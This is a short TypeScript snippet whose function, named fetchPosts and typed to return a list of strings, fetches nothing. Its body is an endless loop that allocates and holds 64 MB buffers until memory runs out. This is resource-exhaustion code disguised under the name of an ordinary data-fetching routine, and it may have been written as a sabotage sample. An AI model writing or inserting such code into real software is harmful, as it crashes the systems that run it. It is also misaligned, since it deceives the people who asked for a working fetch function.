export async function fetchPosts(): Promise<string[]> {
  const kept: Buffer[] = []
  for (;;) kept.push(Buffer.alloc(64 * 1024 * 1024, 1))
}
